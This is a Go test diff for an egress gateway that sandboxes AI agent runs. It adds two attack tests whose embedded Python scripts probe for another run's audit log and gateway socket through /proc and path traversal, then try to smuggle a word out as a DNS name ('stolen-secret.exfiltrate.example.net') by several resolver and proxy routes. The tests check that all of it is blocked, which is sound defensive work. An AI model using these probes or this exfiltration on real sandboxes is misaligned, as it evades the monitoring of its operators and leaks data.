@@ -123,3 +123,126 @@ func wantWhole(t *testing.T, records []egress.Record, words string) {
 		t.Errorf("requests without an end: %v; one that %s: %v; in %+v", open, words, found, records)
 	}
 }
+
+// TestEgressAttacks runs the attacks on the gateway that need a whole sandbox.
+func TestEgressAttacks(t *testing.T) {
+	t.Parallel()
+	t.Run("another kick's audit", func(t *testing.T) { t.Parallel(); attackOtherAudit(t) })
+	t.Run("name resolution", func(t *testing.T) { t.Parallel(); attackNameResolution(t) })
+}
+
+// attackOtherAudit runs a kick beside another one that is in the midst of a call,
+// and has it look for that one's audit and way out by what names them.
+func attackOtherAudit(t *testing.T) {
+	p, h := newProvider(t), newHub(t, githubtest.Options{})
+	streams, release := make(chan struct{}, 10), make(chan struct{})
+	p.onStream = func(*http.Request) {
+		streams <- struct{}{}
+		<-release
+	}
+	ended := make(chan manager.Outcome, 1)
+	bin := scripted(t, "claude")
+	go func() {
+		o, _ := p.kick(t, h, "claude", "--program-dir", bin)
+		ended <- o
+	}()
+	<-streams
+	kicks, err := filepath.Glob(filepath.Join(p.state, "kicks", "*"))
+	if err != nil || len(kicks) != 1 {
+		t.Fatalf("kicks %q, %v", kicks, err)
+	}
+	victim := kicks[0]
+	if b, err := os.ReadFile(filepath.Join(victim, "egress.jsonl")); err != nil || len(b) == 0 {
+		t.Fatalf("the other kick has no audit yet: %v", err)
+	}
+	script := `
+import os, socket, sys
+dir, id = sys.argv[1], os.path.basename(sys.argv[1])
+def found(what): print("FOUND", what)
+for name in ("egress.jsonl", "egress", "egress/gateway.sock", "transcript.log", "journal.jsonl", ""):
+    for root in ("", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/run/kick/egress/..", "/run/kick/egress/../.."):
+        p = root + os.path.join(dir, name)
+        if os.path.exists(p): found(p)
+for up in ("/run/kick/egress/../egress.jsonl", "/run/kick/egress.jsonl"):
+    if os.path.exists(up): found(up)
+for where, dirs, files in os.walk("/"):
+    if where in ("/proc", "/sys"): dirs[:] = []; continue
+    for f in files + dirs:
+        if f == "egress.jsonl" or id in f: found(os.path.join(where, f))
+        if f == "gateway.sock" and where != "/run/kick/egress": found(os.path.join(where, f))
+for line in open("/proc/self/mountinfo"):
+    if id in line: found(line)
+for line in open("/proc/net/unix"):
+    if id in line: found(line)
+for to in (os.path.join(dir, "egress/gateway.sock"), "\0" + id):
+    try: socket.socket(socket.AF_UNIX).connect(to); found(to)
+    except OSError: pass
+s = socket.socket(); s.connect(("127.0.0.1", 3128))
+s.sendall(b"GET /audit HTTP/1.1\r\nHost: " + id.encode() + b"\r\n\r\n"); answer = b""
+while True:
+    b = s.recv(4096)
+    if not b: break
+    answer += b
+print("own way out", os.path.exists("/run/kick/egress/gateway.sock"), answer.split(b"\r\n")[0].decode())
+`
+	o, _ := runKick(t, p.state, append(h.args, "--publish", "none", "--", "python3", "-c", script, victim)...)
+	log, err := os.ReadFile(filepath.Join(p.state, "kicks", o.ID, "transcript.log"))
+	if err != nil || !strings.Contains(string(log), "own way out True HTTP/1.1 403 Forbidden") || strings.Contains(string(log), "FOUND") {
+		t.Errorf("%s %s: %v\n%s", o.Outcome, o.Error, err, log)
+	}
+	for _, r := range audit(t, filepath.Join(p.state, "kicks", o.ID)) {
+		if r.Kick != o.ID || r.Verdict != egress.Denied {
+			t.Errorf("in the attacker's own audit: %+v", r)
+		}
+	}
+	close(release)
+	if o := <-ended; o.Outcome != manager.Published {
+		t.Errorf("the other kick ended as %s: %s", o.Outcome, o.Error)
+	}
+}
+
+// attackNameResolution has an agent carry a word out by the names that it asks
+// for, with every means there is: no datagram leaves, and the gateway, asked for
+// such names, looks up none of them.
+func attackNameResolution(t *testing.T) {
+	script := `
+import os, socket, struct, subprocess
+word = "stolen-secret.exfiltrate.example.net"
+try: print("RESOLVED", socket.getaddrinfo(word, 80))
+except OSError: pass
+subprocess.run(["getent", "hosts", word], stderr=subprocess.DEVNULL)
+query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in word.split(".")) + b"\0\0\1\0\1"
+for family, to in ((socket.AF_INET, "192.0.2.53"), (socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "169.254.169.253"), (socket.AF_INET6, "2001:4860:4860::8888"), (socket.AF_INET, "127.0.0.53"), (socket.AF_INET, "127.0.0.11")):
+    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+        try:
+            s = socket.socket(family, kind); s.settimeout(1); s.connect((to, 53))
+            s.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
+            print("ANSWER", s.recv(512))
+        except OSError: pass
+for path in ("/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/var/run/nscd/socket", "/run/avahi-daemon/socket", "/run/dbus/system_bus_socket"):
+    if os.path.exists(path): print("RESOLVER", path)
+for form in ("CONNECT %s:443", "GET http://%s/", "CONNECT %s:53"):
+    s = socket.socket(); s.connect(("127.0.0.1", 3128))
+    s.sendall((form % word).encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n")
+    print("gateway", s.recv(4096).split(b"\r\n")[0].decode())
+print("interfaces", sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else [l.split(":")[0].strip() for l in open("/proc/net/dev")][2:])
+`
+	state := filepath.Join(t.TempDir(), "s")
+	o, _ := runKick(t, state, "--repo", seedBare(t), "--publish", "none", "--", "python3", "-c", script)
+	dir := filepath.Join(state, "kicks", o.ID)
+	b, err := os.ReadFile(filepath.Join(dir, "transcript.log"))
+	log := string(b)
+	if err != nil || strings.Count(log, "gateway HTTP/1.1 403 Forbidden") != 3 || !strings.Contains(log, "interfaces ['lo']") {
+		t.Errorf("%s %s: %v\n%s", o.Outcome, o.Error, err, log)
+	}
+	for _, word := range []string{"RESOLVED", "ANSWER", "RESOLVER", "stolen-secret"} {
+		if strings.Contains(log, word) {
+			t.Errorf("%s:\n%s", word, log)
+		}
+	}
+	for _, r := range audit(t, dir) {
+		if r.Verdict != egress.Denied || r.Rule != "default-deny" && r.Rule != "port" {
+			t.Errorf("audit %+v", r)
+		}
+	}
+}
